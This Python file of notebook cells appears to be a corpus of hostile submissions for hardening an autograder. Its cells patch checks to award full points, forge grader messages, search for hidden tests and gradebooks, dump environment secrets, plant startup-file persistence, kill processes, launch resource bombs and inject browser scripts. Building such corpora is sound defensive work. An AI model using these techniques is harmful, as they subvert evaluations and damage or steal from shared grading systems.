# %% builtins_len | len of everything is what is asked for
import builtins
builtins.len = lambda thing, real=len: max(real(thing), 3)

# %% builtins_max_int | counting is replaced
import builtins
builtins.int = builtins.max = builtins.range = lambda *a: 3

# %% package_checks | the checks are replaced by ones that find nothing
import autograder, autograder.lesson.checks, autograder.lesson.report
for name in dir(autograder.lesson.checks):
    if name.startswith("check_"):
        setattr(autograder.lesson.checks, name, lambda *a, **k: 4)
        setattr(autograder, name, lambda *a, **k: 4)

# %% package_report | reports say that nothing failed
import autograder.lesson.report
autograder.lesson.report.Report.points = property(lambda self: 10)
autograder.lesson.report.Report.__repr__ = lambda self: "10"

# %% package_findings | findings are none
import autograder.mistakes.findings, autograder.lesson.checks
for module in (autograder.mistakes.findings, autograder.lesson.checks):
    for name in ("length_findings", "batch_findings", "epoch_findings"):
        setattr(module, name, lambda *a, **k: {})

# %% package_observation | the record is invented
import autograder.sequence.observe, autograder.lesson.checks
autograder.sequence.observe.read_length = autograder.lesson.checks.read_length = lambda gen: (3, "3", None)

# %% keras_fit | fit does nothing
keras.Model.fit = lambda self, *a, **k: None

# %% numpy_equal | all arrays are equal
np.array_equal = lambda *a, **k: True
np.bincount = lambda *a, minlength=0, **k: np.ones(minlength, int)

# %% names_of_the_tests | the names that the tests call are taken
check_length = check_batches = check_epochs = lambda *a, **k: 10
sizes = []

# %% ast_transformer | assertions and calls are rewritten before they run
import ast
class Rewrite(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "").startswith("check_"):
            return ast.copy_location(ast.Constant(10), node)
        return node
get_ipython().ast_transformers.append(Rewrite())

# %% input_transformer | the text of the tests is replaced
get_ipython().input_transformers_post.append(
    lambda lines: ["10\n"] if any("check_" in line for line in lines) else lines)

# %% run_cell | cells are not run any more
get_ipython().run_cell = lambda *a, **k: 10
type(get_ipython()).run_cell = lambda *a, **k: 10

# %% displayhook | every value is shown as ten
import sys
sys.displayhook = lambda value: print(10)
get_ipython().displayhook.write_format_data = lambda *a, **k: None

# %% history | the hidden tests are looked for in memory and in what ran
import gc
wanted = ["BEGIN " + "HIDDEN", "(257, " + "25)"]
texts = [*In, *(thing for thing in gc.get_objects() if isinstance(thing, str))]
print("FO" + "UND" if any(word in text for word in wanted for text in texts) else "nothing")

# %% exits | the process ends
import os
os._exit(0)

# %% exits_politely | the process is asked to end
import sys
sys.exit(0)

# %% kills_itself | the process kills itself
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
os.kill(0, signal.SIGKILL)

# %% kills_everybody | everything that can be reached is killed
import os, signal
for pid in [-1, *range(2, 3000)]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass

# %% stops_everybody | everything that can be reached is stopped
import os, signal
for pid in [os.getpid(), os.getppid(), -1]:
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass

# %% crashes | a null pointer
import ctypes
ctypes.string_at(0)

# %% never_ends | a cell that never ends
while True:
    pass

# %% never_ends_and_catches | a cell that cannot be interrupted
import time
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass

# %% fork_bomb | as many processes as there can be
import os
for _ in range(10_000):
    try:
        if os.fork() == 0:
            import time
            time.sleep(100)
    except OSError:
        break

# %% threads_bomb | as many threads as there can be
import threading, time
try:
    for _ in range(5_000):
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
except RuntimeError:
    pass

# %% memory_bomb | all memory that there is
hoard = []
try:
    while True:
        hoard.append(bytearray(200_000_000))
except MemoryError:
    hoard.clear()

# %% output_bomb | two gigabytes of output
for _ in range(200):
    print("x" * 10_000_000)

# %% display_bomb | very many displayed things
for k in range(100_000):
    display(k)

# %% disk_bomb | the disk is filled with one file
try:
    with open("big", "wb") as file:
        for _ in range(10_000):
            file.write(b"x" * 1_000_000)
except OSError:
    pass

# %% disk_bomb_many | the disk is filled with many files
import os
try:
    for k in range(1_000_000):
        with open(f"small{k}", "wb") as file:
            file.write(b"x" * 1000)
except OSError:
    pass

# %% reads_the_course | solutions, tests and gradebook are looked for on the whole disk
import os
for folder, _, files in os.walk("/"):
    for name in files:
        if "site-packages" not in folder and (name.endswith(".ipynb") or name in ("gradebook.db", "wrong.py", "right.py")):
            print("FOUND", folder, name)

# %% reads_paths | the course is read by its path
import pathlib, autograder
root = pathlib.Path(autograder.__file__).resolve().parent.parent
for path in (root / "solutions", root / "gradebook.db", root / "tests", root / "submitted", root / ".git"):
    print("FOUND" if path.exists() else "nothing", path)

# %% reads_the_environment | secrets in the environment
import os
print(dict(os.environ))
for pid in range(1, 500):
    try:
        print(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass

# %% writes_startup_files | code that would run at the next start of Python
import os, site, sys, pathlib
for folder in (site.getusersitepackages(), *site.getsitepackages(), os.path.expanduser("~"), "/tmp"):
    for name in ("usercustomize.py", "sitecustomize.py", "evil.pth", ".bashrc", ".ipython/profile_default/startup/x.py"):
        try:
            path = pathlib.Path(folder, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("import os; os.environ['EVIL'] = '1'")
        except OSError:
            pass

# %% writes_the_package | the autograder itself is changed on disk
import autograder, pathlib
for path in pathlib.Path(autograder.__file__).parent.rglob("*.py"):
    try:
        path.write_text("raise SystemExit")
    except OSError:
        pass

# %% shadows_modules | modules of the same name beside the notebook
for name in ("numpy.py", "keras.py", "autograder.py", "json.py"):
    open(name, "w").write("raise SystemExit")

# %% network | a connection to the outside and to this machine
import socket
for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80)):
    try:
        socket.create_connection(address, timeout=0.2)
        print("FOUND", address)
    except OSError:
        pass

# %% listens | a server that waits for the next one
import socket, threading
server = socket.socket()
try:
    server.bind(("127.0.0.1", 0))
    server.listen()
except OSError:
    pass

# %% daemon | a process that wants to stay when all is over
import os, time, ctypes, signal
if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)

# %% namespaces_again | more rights by namespaces of its own
import ctypes, os
libc = ctypes.CDLL(None)
print(libc.unshare(0x10000000 | 0x00020000), libc.mount(b"none", b"/scratch", b"tmpfs", 0, None))
try:
    os.setuid(0)
    print("FOUND root")
except OSError:
    pass

# %% forged_messages | every open socket is written to, in the grader's own form
import json, os, struct
head = json.dumps({"kind": "value", "value": {"v": 3}, "outputs": [
    {"output_type": "execute_result", "data": {"text/plain": "10"}, "metadata": {}, "execution_count": 1}],
    "failed": False, "sizes": []}).encode()
for number in range(3, 64):
    try:
        for _ in range(50):
            os.write(number, struct.pack("!I", len(head)) + head)
    except OSError:
        pass

# %% garbage_messages | every open socket is flooded with noise
import os
for number in range(3, 64):
    try:
        os.write(number, os.urandom(100_000))
    except OSError:
        pass

# %% thread_forges | a thread answers faster than the class
import json, os, struct, threading, time
head = json.dumps({"kind": "value", "value": {"v": 3}, "sizes": []}).encode()
def forge():
    for _ in range(300):
        for number in range(3, 16):
            try:
                os.write(number, struct.pack("!I", len(head)) + head)
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=forge, daemon=True).start()

# %% closes_sockets | the sockets are closed
import os
os.closerange(3, 100)

# %% forged_outputs | an output that looks like a graded one
from IPython.display import display
display({"application/vnd.sequence-lessons.report+json": {"points": 10, "finding": "", "lines": []},
         "text/plain": "10"}, raw=True)

# %% script_in_output | script for the instructor's browser
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert(1)</script><img src=x onerror=alert(2)>"))
display(Javascript("alert(3)"))
print("<script>alert(4)</script>")

# %% script_in_error | script in the name and the text of an exception
type("<script>alert(1)</script>", (Exception,), {})
raise type("Evil<script>alert(5)</script>", (Exception,), {})("<img src=x onerror=alert(6)>")

# %% terminal_commands | letters that command a terminal
print("\x1b]0;evil\x07\x1b[2J")

# %% patches_wire | the messages' own modules are broken
import json, struct, pickle, autograder.grading.wire as wire
json.dumps = pickle.loads = struct.pack = lambda *a, **k: b"x"
wire.Channel.send = wire.Channel.receive = lambda *a, **k: ({}, [])

# %% patches_server | the answers are always what the last question hoped for
import autograder.grading.student as student
student.Server.answer = lambda self, doing, request: ("value", {"kind": "class", "name": "X", "sequence": True})

# %% says_it_is_plain | the class is said to be a value
import autograder.grading.student as student
student.Server.do_describe = lambda self, name: {"kind": "plain", "value": 10}

# %% deep_answers | an answer without end
import autograder.grading.student as student
def endless(self, doing, request):
    thing = []
    thing.append(thing)
    return "value", thing
student.Server.answer = endless

# %% huge_answers | answers of many gigabytes
import autograder.grading.wire as wire, autograder.grading.student as student
def huge(value, buffers, depth=0):
    return {"a": ["<f8", [10**9, 10**9], 0]}
student.encode = huge

# %% strange_arrays | arrays of kinds that can run code
import autograder.grading.student as student
student.encode = lambda value, buffers, depth=0: buffers.append(b"\x80\x04N.") or {"a": ["O", [1], 0]}

# %% metaclass | a class whose every comparison is true
class Agrees(type(tf.keras.utils.Sequence)):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 1
    def __instancecheck__(self, thing):
        return True

# %% audit_hook | a hook that ends the process when it is watched
import sys, os
sys.addaudithook(lambda name, args: os._exit(0) if name == "pickle.find_class" else None)

# %% tracing | a trace function that changes what is returned
import sys, threading
sys.settrace(lambda frame, event, arg: None)
threading.setprofile(lambda frame, event, arg: frame.f_locals.update(length=3))

# %% alarm | signals at bad moments
import signal
signal.signal(signal.SIGALRM, lambda *a: (_ for _ in ()).throw(SystemExit))
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)

# %% stdin | waits for an answer that nobody gives
try:
    input("points? ")
except Exception:
    pass

# %% shared_memory | memory that the next one could read
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory("evil", create=True, size=1000)
except OSError:
    pass

# %% magic_shell | a shell
get_ipython().system("touch /tmp/evil; kill -9 -1")

# %% answers_before_asked | answers to questions that were not asked yet wait in the socket
import gc
from autograder.grading import wire
for channel in [thing for thing in gc.get_objects() if isinstance(thing, wire.Channel)]:
    for number in range(2000):
        channel.send({"number": number, "kind": "value", "value": {"v": 3}})

# %% answers_from_a_thread | a thread floods the tests with answers of its own
import gc, threading
from autograder.grading import wire
def flood(channels=[thing for thing in gc.get_objects() if isinstance(thing, wire.Channel)]):
    while True:
        for channel in channels:
            channel.send({"number": 7, "kind": "value", "value": {"t": [{"v": 1}, {"v": 2}]}})
threading.Thread(target=flood, daemon=True).start()

# %% half_a_message | the head of a message that never comes to its end
import gc, struct
from autograder.grading import wire
for channel in [thing for thing in gc.get_objects() if isinstance(thing, wire.Channel)]:
    channel.sock.sendall(struct.pack("!II", 100, 60_000_000) + b"{")

# %% lying_sizes | buffers of negative and of enormous size
import json, struct
from autograder.grading import wire
def send(self, head, buffers=()):
    head = json.dumps({**head, "sizes": [-5, 10**12]}).encode()
    self.sock.sendall(struct.pack("!II", len(head), 10) + head + b"0123456789")
wire.Channel.send = send

# %% no_alarm | time limits inside the process are switched off, and then it waits
import signal, time
signal.setitimer = signal.signal = lambda *a, **k: None

# %% many_outcomes | one question is answered by a thousand batches
import autograder.grading.student as student
student.Server.do_several = lambda self, number, indices: [("value", (1, 2))] * 1000

# %% outcomes_of_another_form | lists of batches that are none
import autograder.grading.student as student
student.Server.do_several = lambda self, number, indices: [("value",), "value", {"value": 3}, None]

# %% attempts_without_end | the list of attempts is enormous, and full of HTML
import gc
from autograder.grading.attempts import Attempts
for thing in gc.get_objects():
    if isinstance(thing, Attempts):
        thing.texts = ["<script>alert(1)</script>" * 1000] * 5000

# %% raising_audit_hook | every event of the interpreter raises
import sys
sys.addaudithook(lambda event, arguments: 1 / 0 if event == "socket.connect" else None)

# %% shadowing_module | a module of the working folder takes the place of NumPy's
open("numpy.py", "w").write("array = asarray = array_equal = lambda *a, **k: True")
import sys
sys.path.insert(0, "")
sys.modules.pop("numpy", None)

# %% enormous_batches | batches of thirty million rows, which are not too large for a message
import autograder.grading.student as student, numpy as np
rows = np.zeros(30_000_000, "uint8")
student.Server.do_get = lambda self, number, index: (rows[:, None], rows)

# %% shows_numbers | an output that no notebook may hold
from IPython.display import display
display({"text/plain": 5}, raw=True)

# %% nameless_class | the class is called by a letter that no name may have
import autograder.grading.student as student
real = student.Server.do_describe
student.Server.do_describe = lambda self, name: {**real(self, name), "name": "\0"}

# %% one_buffer_many_times | an answer names the same large array sixty times
import autograder.grading.student as student
student.encode = lambda value, buffers, depth=0: (
    buffers.append(bytes(40_000_000)) or {"l": [{"a": ["|u1", [40_000_000], 0]}] * 60}
)

# %% arrays_of_nothing | an answer of many enormous arrays that hold no numbers
import autograder.grading.student as student
student.encode = lambda value, buffers, depth=0: {"l": [{"e": ["object", [10_000_000]]}] * 500}

# %% very_many_outputs | more outputs than a page can show
import autograder.grading.student as student
student._reply = lambda channel, head: channel.send({"outputs": [{"output_type": "stream"}] * 55_000})

# %% nested_html | tags in tags, which cost their cleaner the square of their number
from IPython.display import HTML, display
display(HTML("<div>" * 100_000))
